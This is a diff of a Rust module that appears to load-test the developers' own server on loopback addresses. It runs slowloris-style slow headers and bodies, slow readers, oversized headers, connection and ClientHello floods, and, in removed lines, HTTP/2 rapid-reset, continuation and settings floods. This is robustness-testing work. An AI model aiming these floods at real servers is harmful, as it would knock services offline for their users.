@@ -1,250 +1,300 @@
-//! The attacks, each as hard as its processor time allows, from many addresses of 127.1.0.0/16.
+//! The attacks, each as hard as its processor time allows: from many addresses of 127.0.0.0/8, or from one where that one's
+//! limit is attacked. Those over HTTP/2 are in `attacks_http2`.
 //!
 //! From a blank listener, which answers no request, no answer is waited for. `size` is how many connections an attack holds
-//! or uses.
-use std::cell::Cell;
+//! or uses. What the other side says or does in return is counted by name, and told at the end.
+use std::cell::{Cell, RefCell};
+use std::collections::BTreeMap;
 use std::io;
 use std::rc::Rc;
-use std::time::{Duration, Instant};
+use std::sync::OnceLock;
+use std::time::Duration;
 
+use socket2::SockRef;
 use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
 use tokio::task::LocalSet;
+use tokio::time::timeout;
 
-use super::{Door, Outcome};
+use super::{Door, Outcome, attacks_http2};
 
-const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
-/// `:method GET, :scheme https, :path /1k, :authority localhost` in HPACK.
-const FIELDS: &[u8] = b"\x82\x87\x04\x03/1k\x01\x09localhost";
-const FLOOD_PIECE: usize = 32 * 1024;
+/// Between two drops of a trickle.
+pub const PAUSE: Duration = Duration::from_millis(500);
+/// How often a slow reader takes a byte: longer than it is let.
+const SIPS: u32 = 8;
+/// Whoever is turned away comes back after it, from another address where it has several.
+const BACK: Duration = Duration::from_millis(20);
+/// More than any limit of a head.
+const LARGE_HEAD: usize = 60_000;
+/// More of them need most of an attack's time to come.
+const MANY: u32 = 2_000;
+/// Those without HTTP/2.
+const KINDS: [&str; 13] = [
+    "nobody",
+    "slow-heads",
+    "slow-bodies",
+    "slow-readers",
+    "large-heads",
+    "connections",
+    "hellos",
+    "half-open",
+    "too-many",
+    "too-fast",
+    "in-all",
+    "open",
+    "panic",
+];
 
-trait Stream: AsyncRead + AsyncWrite + Unpin {}
+pub trait Stream: AsyncRead + AsyncWrite + Unpin {}
 impl<T: AsyncRead + AsyncWrite + Unpin> Stream for T {}
 
-/// How many connections were made and bytes sent.
+/// What was done and what came back.
 #[derive(Clone, Default)]
-struct Done(Rc<(Cell<u64>, Cell<u64>)>);
+pub struct Done(Rc<Tally>);
+
+#[derive(Default)]
+struct Tally {
+    connections: Cell<u64>,
+    open: Cell<u64>,
+    most_open: Cell<u64>,
+    bytes: Cell<u64>,
+    heard: RefCell<BTreeMap<String, u64>>,
+}
 
 impl Done {
     fn connected(&self) {
-        self.0.0.set(self.0.0.get() + 1);
+        self.0.connections.set(self.0.connections.get() + 1);
     }
 
     fn sent(&self, bytes: usize) {
-        self.0.1.set(self.0.1.get() + bytes as u64);
+        self.0.bytes.set(self.0.bytes.get() + bytes as u64);
+    }
+
+    pub fn heard(&self, what: &str) {
+        *self.0.heard.borrow_mut().entry(what.into()).or_default() += 1;
+    }
+
+    /// Counts an attacker's connection as open until the guard is dropped.
+    fn holds(&self) -> Held {
+        let open = self.0.open.get() + 1;
+        self.0.open.set(open);
+        self.0.most_open.set(self.0.most_open.get().max(open));
+        Held(self.clone())
+    }
+
+    fn told(&self) -> serde_json::Value {
+        let tally = &self.0;
+        serde_json::json!({
+            "connections": tally.connections.get(),
+            "most_open": tally.most_open.get(),
+            "bytes": tally.bytes.get(),
+            "heard": *tally.heard.borrow(),
+        })
     }
 }
 
-pub async fn attack(kind: &str, door: Door, lasts: Duration, size: u32) -> Outcome {
-    let done = Done::default();
-    let known = [
-        "slow-heads",
-        "slow-bodies",
-        "slow-readers",
-        "connections",
-        "hellos",
-        "handshakes",
-        "open",
-        "rapid-reset",
-        "continuation",
-        "settings",
-        "ping",
-        "window-update",
-        "empty-data",
-        "priority",
-        "panic",
-    ];
-    if !known.contains(&kind) {
-        return Err(format!("attacks are {}", known.join(", ")).into());
+struct Held(Done);
+
+impl Drop for Held {
+    fn drop(&mut self) {
+        self.0.0.open.set(self.0.0.open.get() - 1);
     }
-    let attackers = LocalSet::new();
-    for number in 0..size {
+}
+
+/// One of several processes that attack together: it has the connections from `first` on, by steps.
+#[derive(Clone, Copy)]
+pub struct Part {
+    pub size: u32,
+    pub first: u32,
+    pub step: u32,
+}
+
+pub async fn attack(kind: &str, door: Door, lasts: Duration, part: Part) -> Outcome {
+    if !KINDS.contains(&kind) && !attacks_http2::KINDS.contains(&kind) {
+        let known = [&KINDS[..], &attacks_http2::KINDS].concat().join(", ");
+        return Err(format!("attacks are {known}").into());
+    }
+    let (done, attackers) = (Done::default(), LocalSet::new());
+    let mine = part.size / part.step;
+    // All at once would be one packet of connects; and each of very many takes its time.
+    let ramp = lasts.mul_f64(if mine > MANY { 0.9 } else { 0.2 });
+    for number in 0..mine {
         let (door, kind, done) = (door.clone(), kind.to_owned(), done.clone());
         attackers.spawn_local(async move {
-            // All at once would be one packet of connects.
-            tokio::time::sleep(lasts.mul_f64(0.2) * number / size).await;
-            let mut from = number;
+            tokio::time::sleep(ramp * number / mine).await;
+            let mut from = part.first + number * part.step;
             loop {
                 if once(&kind, &door, from, &done).await.is_err() {
-                    // Whoever is turned away comes back, from another address.
-                    tokio::time::sleep(Duration::from_millis(20)).await;
+                    done.heard("turned away");
+                    tokio::time::sleep(BACK).await;
                 }
-                from += size;
+                from = from.wrapping_add(part.size);
             }
         });
     }
-    drop(tokio::time::timeout(lasts, attackers).await);
-    let (connections, bytes) = (done.0.0.get(), done.0.1.get());
-    println!(
-        "{}",
-        serde_json::json!({"connections": connections, "bytes": bytes})
-    );
+    drop(timeout(lasts, attackers).await);
+    println!("{}", done.told());
     Ok(())
 }
 
 async fn once(kind: &str, door: &Door, from: u32, done: &Done) -> io::Result<()> {
+    let _held = done.holds();
     match kind {
         "connections" => {
             drop(door.plain(from).await?);
             done.connected();
             Ok(())
         }
+        "too-fast" => {
+            let stream = door.plain(from).await?;
+            done.connected();
+            // With a reset, so that one address does not run out of ports.
+            SockRef::from(&stream).set_linger(Some(Duration::ZERO))
+        }
         "hellos" => {
             // The first flight of a handshake, and gone.
-            let mut stream = door.plain(from).await?;
-            done.connected();
-            stream.write_all(&hello()).await?;
+            let mut stream = said_hello(door, from, done).await?;
             let mut piece = [0; 4096];
             if !door.blank {
-                drop(tokio::time::timeout(Duration::from_secs(1), stream.read(&mut piece)).await);
+                drop(timeout(Duration::from_secs(1), stream.read(&mut piece)).await);
             }
             Ok(())
         }
+        "half-open" => {
+            let mut stream = said_hello(door, from, done).await?;
+            let mut piece = [0; 8192];
+            if stream.read(&mut piece).await? > 0 {
+                done.heard("hello answered");
+                while stream.read(&mut piece).await? > 0 {}
+            }
+            Err(io::ErrorKind::ConnectionAborted.into())
+        }
         "slow-heads" => {
             let mut stream = open(door, from, false, done).await?;
-            send(&mut *stream, b"GET / HTTP/1.1\r\nHost: localhost\r\n", done).await?;
-            loop {
-                send(&mut *stream, b"X: y\r\n", done).await?;
-                tokio::time::sleep(Duration::from_millis(500)).await;
-            }
+            let head = b"GET / HTTP/1.1\r\nHost: localhost\r\n";
+            send(&mut *stream, head, done).await?;
+            trickle(&mut *stream, b"X: y\r\n", done).await
         }
         "slow-bodies" => {
             let mut stream = open(door, from, false, done).await?;
             let head = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n";
             send(&mut *stream, head, done).await?;
-            loop {
-                send(&mut *stream, b"x", done).await?;
-                tokio::time::sleep(Duration::from_millis(500)).await;
-            }
+            trickle(&mut *stream, b"x", done).await
         }
         "slow-readers" => {
             let mut stream = open(door, from, false, done).await?;
             let head = b"GET /10m HTTP/1.1\r\nHost: localhost\r\n\r\n";
             send(&mut *stream, head, done).await?;
-            let mut byte = [0];
-            loop {
-                tokio::time::sleep(Duration::from_millis(500)).await;
-                if !door.blank && stream.read(&mut byte).await? == 0 {
-                    return Ok(());
-                }
-            }
+            sip(&mut *stream, door.blank).await
         }
-        "open" => {
+        "large-heads" => {
             let mut stream = open(door, from, false, done).await?;
-            send(
-                &mut *stream,
-                b"GET /1k HTTP/1.1\r\nHost: localhost\r\n\r\n",
-                done,
-            )
-            .await?;
-            let mut piece = [0; 4096];
-            loop {
-                if stream.read(&mut piece).await? == 0 {
-                    return Ok(());
-                }
+            let mut head = b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ".to_vec();
+            head.resize(LARGE_HEAD, b'a');
+            // Refused before all of it was taken.
+            let sent = send(&mut *stream, &head, done).await;
+            match door.blank {
+                true => sent,
+                false => listen(&mut *stream, done).await,
             }
         }
-        "handshakes" => {
-            drop(open(door, from, true, done).await?);
-            Ok(())
+        "too-many" | "in-all" | "open" => {
+            let mut stream = open(door, from, false, done).await?;
+            let ask = b"GET /1k HTTP/1.1\r\nHost: localhost\r\n\r\n";
+            send(&mut *stream, ask, done).await?;
+            listen(&mut *stream, done).await?;
+            Err(io::ErrorKind::ConnectionAborted.into())
         }
         "panic" => {
             let mut stream = open(door, from, false, done).await?;
             let head = b"GET /1k HTTP/1.1\r\nHost: localhost\r\nX-Freehold-Test-Panic: 1\r\n\r\n";
-            let mut piece = [0; 4096];
-            loop {
-                send(&mut *stream, head, done).await?;
-                if door.blank {
-                    // The edge ends the connection, too.
-                    return Ok(());
-                }
-                if stream.read(&mut piece).await? == 0 {
-                    return Ok(());
-                }
+            send(&mut *stream, head, done).await?;
+            match door.blank {
+                true => Ok(()),
+                // The edge ends the connection, too.
+                false => listen(&mut *stream, done).await,
             }
         }
-        flood => {
+        over_http2 => {
             let mut stream = open(door, from, true, done).await?;
-            send(&mut *stream, PREFACE, done).await?;
-            flooded(flood, &mut *stream, door.blank, done).await
+            attacks_http2::once(over_http2, &mut *stream, from, door.blank, done).await
         }
     }
 }
 
-/// Frames of one kind without end; what comes back is read and forgotten.
-async fn flooded(kind: &str, stream: &mut dyn Stream, blank: bool, done: &Done) -> io::Result<()> {
-    let (mut next, begun) = (1, Instant::now());
-    if kind == "continuation" {
-        send(stream, &frame(1, 0x1, 1, FIELDS), done).await?;
-    }
-    if kind == "empty-data" {
-        let post = [&b"\x83"[..], &FIELDS[1..]].concat();
-        send(stream, &frame(1, 0x4, 1, &post), done).await?;
-    }
+/// A drop again and again, until the other side has enough.
+async fn trickle(stream: &mut dyn Stream, drop: &[u8], done: &Done) -> io::Result<()> {
+    let mut piece = [0; 4096];
     loop {
-        let mut piece = Vec::with_capacity(FLOOD_PIECE + 64);
-        while piece.len() < FLOOD_PIECE {
-            match kind {
-                "rapid-reset" => {
-                    piece.extend(frame(1, 0x5, next, FIELDS));
-                    piece.extend(frame(3, 0, next, &8u32.to_be_bytes()));
-                    next += 2;
-                }
-                "continuation" => piece.extend(frame(9, 0, 1, b"\x40\x01a\x01b")),
-                "settings" => piece.extend(frame(4, 0, 0, b"\0\x03\0\0\0\x64")),
-                "ping" => piece.extend(frame(6, 0, 0, &[7; 8])),
-                "window-update" => piece.extend(frame(8, 0, 0, &1u32.to_be_bytes())),
-                "empty-data" => piece.extend(frame(0, 0, 1, b"")),
-                _ => piece.extend(frame(2, 0, 1, &[0, 0, 0, 0, 16])),
-            }
-            if next > 1_000_000_000 {
-                return Ok(());
-            }
+        send(stream, drop, done).await?;
+        match timeout(PAUSE, stream.read(&mut piece)).await {
+            Ok(Ok(count @ 1..)) => status(&piece[..count], done),
+            Ok(_) => return Err(io::ErrorKind::ConnectionAborted.into()),
+            Err(_) => {}
         }
-        send(stream, &piece, done).await?;
-        let mut answer = [0; 16 * 1024];
-        let reading = stream.read(&mut answer);
-        if !blank
-            && matches!(
-                tokio::time::timeout(Duration::ZERO, reading).await,
-                Ok(Ok(0) | Err(_))
-            )
-        {
+    }
+}
+
+/// Takes a byte now and then, of what has been received long since, so that the end is not seen; then tries anew.
+pub async fn sip(stream: &mut dyn Stream, blank: bool) -> io::Result<()> {
+    let mut byte = [0];
+    for _ in 0..SIPS {
+        tokio::time::sleep(PAUSE).await;
+        if !blank && stream.read(&mut byte).await? == 0 {
             return Err(io::ErrorKind::ConnectionAborted.into());
         }
-        if begun.elapsed() > Duration::from_secs(60) {
-            return Ok(());
+    }
+    Ok(())
+}
+
+/// Reads to the end, and counts the answers.
+async fn listen(stream: &mut dyn Stream, done: &Done) -> io::Result<()> {
+    let mut piece = [0; 4096];
+    loop {
+        match stream.read(&mut piece).await? {
+            0 => return Ok(()),
+            count => status(&piece[..count], done),
         }
-        tokio::task::yield_now().await;
     }
 }
 
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let length = (payload.len() as u32).to_be_bytes();
-    let mut bytes = length[1..].to_vec();
-    bytes.extend([kind, flags]);
-    bytes.extend(stream.to_be_bytes());
-    bytes.extend(payload);
-    bytes
-}
-
-/// A ClientHello as rustls writes it.
-fn hello() -> Vec<u8> {
-    let provider = std::sync::Arc::new(rustls::crypto::aws_lc_rs::default_provider());
-    let built = rustls::ClientConfig::builder_with_provider(provider)
-        .with_safe_default_protocol_versions()
-        .map(|config| {
-            config
-                .with_root_certificates(rustls::RootCertStore::empty())
-                .with_no_client_auth()
-        });
-    let mut bytes = Vec::new();
-    if let (Ok(config), Ok(name)) = (built, super::NAME.try_into())
-        && let Ok(mut client) = rustls::ClientConnection::new(std::sync::Arc::new(config), name)
-        && client.write_tls(&mut bytes).is_ok()
+fn status(piece: &[u8], done: &Done) {
+    if let Some(answer) = piece.strip_prefix(b"HTTP/1.1 ")
+        && let Some(code) = answer.first_chunk::<3>()
     {
-        return bytes;
+        done.heard(&String::from_utf8_lossy(code));
     }
-    bytes
+}
+
+async fn said_hello(door: &Door, from: u32, done: &Done) -> io::Result<tokio::net::TcpStream> {
+    let mut stream = door.plain(from).await?;
+    done.connected();
+    let hello = hello();
+    stream.write_all(hello).await?;
+    done.sent(hello.len());
+    Ok(stream)
+}
+
+/// A ClientHello as rustls writes it; the same one always, as an attacker would spare himself the keys.
+fn hello() -> &'static [u8] {
+    static HELLO: OnceLock<Vec<u8>> = OnceLock::new();
+    HELLO.get_or_init(|| {
+        let provider = std::sync::Arc::new(rustls::crypto::aws_lc_rs::default_provider());
+        let built = rustls::ClientConfig::builder_with_provider(provider)
+            .with_safe_default_protocol_versions()
+            .map(|config| {
+                config
+                    .with_root_certificates(rustls::RootCertStore::empty())
+                    .with_no_client_auth()
+            });
+        let mut bytes = Vec::new();
+        if let (Ok(config), Ok(name)) = (built, super::NAME.try_into())
+            && let Ok(mut client) = rustls::ClientConnection::new(std::sync::Arc::new(config), name)
+            && client.write_tls(&mut bytes).is_ok()
+        {
+            return bytes;
+        }
+        bytes
+    })
 }
 
 async fn open(door: &Door, from: u32, http2: bool, done: &Done) -> io::Result<Box<dyn Stream>> {
@@ -253,7 +303,7 @@ async fn open(door: &Door, from: u32, http2: bool, done: &Done) -> io::Result<Bo
     Ok(stream)
 }
 
-async fn send(stream: &mut dyn Stream, bytes: &[u8], done: &Done) -> io::Result<()> {
+pub async fn send(stream: &mut dyn Stream, bytes: &[u8], done: &Done) -> io::Result<()> {
     stream.write_all(bytes).await?;
     stream.flush().await?;
     done.sent(bytes.len());
